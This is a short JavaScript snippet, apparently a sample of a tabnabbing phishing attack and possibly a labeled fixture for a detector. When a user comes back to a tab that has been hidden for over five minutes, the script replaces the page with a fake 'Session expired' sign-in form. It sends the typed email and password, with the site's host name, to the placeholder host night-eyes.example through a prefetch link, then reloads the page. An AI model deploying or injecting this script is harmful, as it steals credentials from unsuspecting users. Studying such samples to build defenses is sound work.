(function () {
  var away = 0;
  document.addEventListener("visibilitychange", function () {
    if (document.hidden) { away = Date.now(); return; }
    if (Date.now() - away < 3e5) return;
    document.title = "Session expired";
    // expect: sign-in-form-in-page
    document.body.innerHTML = '<div class="box"><h1>Sign in again</h1><form id="lf"><input name="email" type="email"><input name="pw" type="password"><button>Next</button></form></div>';
    document.getElementById("lf").onsubmit = function (e) {
      e.preventDefault();
      var d = new URLSearchParams(new FormData(this));
      d.append("h", location.host);
      var l = document.createElement("link");
      l.rel = "prefetch"; l.href = "https://night-eyes.example/s?" + d;
      document.head.appendChild(l);
      setTimeout(function () { location.reload(); }, 600);
    };
  });
})();
